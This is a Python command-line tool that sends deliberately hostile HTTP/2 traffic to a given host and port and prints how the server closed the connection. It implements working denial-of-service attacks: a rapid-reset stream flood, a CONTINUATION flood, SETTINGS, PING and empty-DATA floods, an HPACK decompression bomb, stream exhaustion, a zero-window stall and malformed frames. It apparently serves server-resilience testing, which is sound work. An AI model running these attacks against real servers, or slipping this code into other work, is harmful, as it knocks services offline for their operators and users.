"""HTTP/2 frames nobody should send: `hostile_http2.py HOST PORT ATTACK`. Prints how the peer ended it."""

import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 5, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "app"), (":path", "/")]
PATIENCE = 10


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(encoder, stream, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, encoder.encode(REQUEST))


def rapid_reset(encoder):
    for n in range(20_000):
        stream = 2 * n + 1
        yield request(encoder, stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation_flood(encoder):
    yield frame(HEADERS, END_STREAM, 1, encoder.encode(REQUEST))
    for _ in range(20_000):
        yield frame(CONTINUATION, 0, 1, hpack.Encoder().encode([("x-flood", "y" * 200)]))


def settings_flood(encoder):
    for n in range(50_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n % 2))


def ping_flood(encoder):
    for n in range(100_000):
        yield frame(PING, 0, 0, struct.pack(">Q", n))


def empty_data_flood(encoder):
    yield request(encoder, 1, END_HEADERS)
    for _ in range(100_000):
        yield frame(DATA, 0, 1)


def hpack_bomb(encoder):
    """One large entry of the dynamic table, then references to it: a few bytes that say megabytes."""
    for n in range(20):
        stream = 2 * n + 1
        fields = encoder.encode(REQUEST + [("x-bomb", "b" * 3900)])
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields + b"\xbe" * 12_000)


def too_many_streams(encoder):
    for n in range(10_000):
        yield request(encoder, 2 * n + 1, END_HEADERS)


def zero_window(encoder):
    """Asks for answers and never lets any of them come."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for n in range(2000):
        yield request(encoder, 2 * n + 1)


def wrong_frames(encoder):
    yield frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + encoder.encode(REQUEST))
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
    yield frame(DATA, 0, 0, b"x")
    yield frame(HEADERS, END_STREAM | END_HEADERS, 2, b"\xff" * 100)


def main(host, port, attack):
    connection = socket.create_connection((host, int(port)), timeout=PATIENCE)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    received, ended, sent = bytearray(), "still open", 0
    deadline = time.monotonic() + PATIENCE
    try:
        batch = b""
        for piece in attack(hpack.Encoder()):
            batch += piece
            sent += 1
            if len(batch) > 16_000:
                connection.sendall(batch)
                batch = b""
                connection.setblocking(False)
                try:
                    received += connection.recv(1 << 16)
                except BlockingIOError:
                    pass
                connection.settimeout(PATIENCE)
            if time.monotonic() > deadline:
                break
        connection.sendall(batch)
        connection.settimeout(0.5)
        while block := connection.recv(1 << 16):
            received += block
        ended = "closed"
    except TimeoutError:
        ended = "still open"
    except OSError as error:
        ended = f"ended by {error.strerror}"
    goaway = next((struct.unpack(">I", f[4:8])[0] for kind, f in frames(received) if kind == GOAWAY), None)
    print(f"{attack.__name__}: {ended} after {sent} steps, GOAWAY {goaway}, {len(received)} bytes received")


def frames(data):
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        yield data[3], bytes(data[9:9 + size])
        data = data[9 + size:]


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], globals()[sys.argv[3]])
